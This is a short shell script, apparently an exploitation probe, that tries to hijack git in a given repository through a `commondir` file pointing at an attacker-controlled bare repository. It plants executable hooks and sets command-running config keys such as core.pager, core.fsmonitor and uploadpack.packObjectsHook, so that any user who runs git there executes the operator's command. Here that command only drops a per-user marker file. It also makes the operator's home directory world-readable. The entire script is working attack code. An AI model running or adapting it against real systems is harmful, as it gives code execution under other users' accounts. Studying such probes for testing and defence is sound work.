#!/bin/sh
# Tries to make git take hooks, a pager and configuration from a directory of the operator's, through `commondir`.
# Usage: git_commondir.sh REPOSITORY MARKER   (MARKER.USER appears when USER has run the operator's code)
cd "$1" || exit
evil=$HOME/evil.git
git init -q --bare "$evil"
cp -r objects refs "$evil/" 2>/dev/null
for hook in pre-receive update post-receive reference-transaction; do
    printf '#!/bin/sh\ntouch "%s.%s"\ncat >/dev/null\n' "$2" "\$(id -un)" >"$evil/hooks/$hook"
    chmod 755 "$evil/hooks/$hook"
done
for key in core.pager core.fsmonitor core.editor diff.external uploadpack.packObjectsHook core.alternateRefsCommand; do
    git config --file "$evil/config" "$key" "touch $2.\$(id -un); cat"
done
chmod -R a+rX "$evil" "$HOME"
(printf '%s\n' "$evil" >commondir) 2>/dev/null && echo "made commondir"
exit 0
